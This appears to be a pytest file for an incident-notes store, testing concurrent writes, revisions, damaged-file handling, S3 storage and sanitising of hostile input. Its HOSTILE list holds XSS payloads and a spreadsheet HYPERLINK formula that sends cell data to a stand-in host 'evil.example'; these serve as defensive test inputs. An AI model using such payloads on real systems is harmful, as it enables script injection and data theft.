"""Incident notes as append-only records: two writers at once, restarts, S3, hostile text."""

from __future__ import annotations

import json
import subprocess
import sys
import textwrap
import threading
from datetime import UTC, datetime, timedelta

import pytest
from conftest import ROOT
from test_history_s3 import BUCKET
from test_history_s3 import s3 as s3  # the moto S3 server fixture on 127.0.0.1

from monitors.analysis import notes as placing
from monitors.cli import note_args
from monitors.history import notes
from monitors.history.store import open_store

START = datetime(2024, 5, 6, 12, 0, 5, tzinfo=UTC)
INCIDENT = notes.incident_id("insta", START)


def _note(text: str, by: str = "Ana", **extra) -> notes.Record:
    return notes.make("note", incident=INCIDENT, platform="insta", start=START,
                      end=START + timedelta(minutes=10), by=by, text=text, **extra)


def test_the_id_is_the_platform_and_the_start_to_the_second():
    assert INCIDENT == "insta-20240506t120005z"
    assert notes.is_incident_id(INCIDENT)
    later = START.replace(microsecond=900_000)  # a round's start is never on the second
    assert notes.incident_id("insta", later) == INCIDENT
    assert not notes.is_incident_id("insta-2024") and not notes.is_incident_id("../etc")


def test_threads_writing_at_once_lose_no_note(tmp_path):
    store = open_store(str(tmp_path / "data"))
    barrier = threading.Barrier(8)

    def writer(n: int) -> None:
        barrier.wait()
        for i in range(25):
            notes.write(store, _note(f"thread {n} note {i}", by=f"t{n}"))

    threads = [threading.Thread(target=writer, args=(n,)) for n in range(8)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    notes.clear_cache()
    texts = {r.text for r in notes.read(store)}
    assert texts == {f"thread {n} note {i}" for n in range(8) for i in range(25)}


_CHILD = textwrap.dedent("""
    import sys, time
    from datetime import UTC, datetime, timedelta
    from monitors.history import notes
    from monitors.history.store import open_store
    data, name, go = sys.argv[1], sys.argv[2], float(sys.argv[3])
    store = open_store(data)
    start = datetime(2024, 5, 6, 12, 0, 5, tzinfo=UTC)
    while time.time() < go:
        time.sleep(0.001)
    for i in range(60):
        notes.write(store, notes.make("note", incident=notes.incident_id("insta", start),
                    platform="insta", start=start, end=None, by=name, text=f"{name} {i}"))
""")


def test_two_processes_writing_at_once_lose_no_note(tmp_path):
    data = str(tmp_path / "data")
    import time

    go = time.time() + 1.5  # both start writing at the same moment
    children = [subprocess.Popen([sys.executable, "-c", _CHILD, data, name, str(go)], cwd=ROOT)
                for name in ("alpha", "beta")]
    assert [c.wait(timeout=60) for c in children] == [0, 0]
    notes.clear_cache()  # a restarted reader: everything comes from the files
    found = notes.read(open_store(data))
    assert sorted(r.text for r in found) == sorted(f"{n} {i}" for n in ("alpha", "beta")
                                                   for i in range(60))
    assert len({r.record for r in found}) == 120 and len({r.file for r in found}) == 120


def test_an_edit_is_a_new_revision_and_the_history_is_kept(tmp_path):
    store = open_store(str(tmp_path / "data"))
    first = notes.write(store, _note("Paused the ads"))
    notes.write(store, _note("Paused the Instagram ads at 10:20", record=first.record,
                             revision=2, by="Ben"))
    notes.write(store, _note("Emailed the list"))
    newest, history = placing.latest(notes.read(store))
    assert [r.text for r in newest] == ["Paused the Instagram ads at 10:20", "Emailed the list"]
    assert [r.text for r in history[first.record]] == ["Paused the ads",
                                                       "Paused the Instagram ads at 10:20"]
    assert newest[0].by == "Ben" and newest[0].revision == 2
    files = sorted(p.name for p in (tmp_path / "data" / "notes").rglob("*.json"))
    assert len(files) == 3 and all(f.startswith("note-") for f in files)


def test_a_withdrawn_note_is_not_shown_but_kept(tmp_path):
    store = open_store(str(tmp_path / "data"))
    first = notes.write(store, _note("wrong incident"))
    notes.write(store, _note("", record=first.record, revision=2, deleted=True))
    newest, history = placing.latest(notes.read(store))
    assert newest == [] and len(history[first.record]) == 2


HOSTILE = [
    "<script>alert(1)</script>",
    '<img src=x onerror="alert(2)">',
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "bell\x07 escape\x1b[31m red\x00 nul \u202e reversed",
    "lone \ud800 surrogate",
    "x" * 5000,
]


@pytest.mark.parametrize("text", HOSTILE)
def test_hostile_text_is_stored_as_valid_capped_text(tmp_path, text):
    store = open_store(str(tmp_path / "data"))
    notes.write(store, _note(text, by="<b>Mallory</b>\x1b\n" + "m" * 300))
    notes.clear_cache()
    (record,) = notes.read(store)
    record.text.encode("utf-8")  # valid UTF-8: no lone surrogate survives
    assert len(record.text) <= notes.TEXT_MAX and len(record.by) <= notes.NAME_MAX
    assert not any(ord(c) < 32 and c != "\n" for c in record.text + record.by)
    assert "\u202e" not in record.text and "\n" not in record.by
    if text.startswith("<"):
        assert record.text == text  # kept as written: escaping is the display's job
    if len(text) > notes.TEXT_MAX:
        assert record.text.endswith("…") and len(record.text) == notes.TEXT_MAX


def test_a_damaged_or_foreign_file_is_skipped_and_the_rest_read(tmp_path, caplog):
    store = open_store(str(tmp_path / "data"))
    notes.write(store, _note("kept"))
    folder = tmp_path / "data" / "notes" / "month=2024-05"
    (folder / "note-1-bad.json").write_text("{not json", encoding="utf-8")
    (folder / "note-2-foreign.json").write_text(json.dumps({"version": 9}), encoding="utf-8")
    (folder / "note-3-huge.json").write_bytes(b"[" + b" " * 70_000 + b"]")
    notes.clear_cache()
    assert [r.text for r in notes.read(store)] == ["kept"]
    assert caplog.text.count("notes: ") == 3


def test_the_cli_constants_match_the_store():
    assert note_args.KINDS == notes.KINDS and note_args.TEXT_MAX == notes.TEXT_MAX


def test_records_on_s3_are_written_and_read_back_without_a_lock(s3):
    endpoint, _ = s3
    url = f"s3://{BUCKET}/notes-test"
    store = open_store(url, endpoint)
    threads = [threading.Thread(target=lambda n=n: [notes.write(store, _note(f"s3 {n} {i}"))
                                                   for i in range(5)]) for n in range(4)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    notes.clear_cache()
    assert sorted(r.text for r in notes.read(store)) == sorted(
        f"s3 {n} {i}" for n in range(4) for i in range(5))
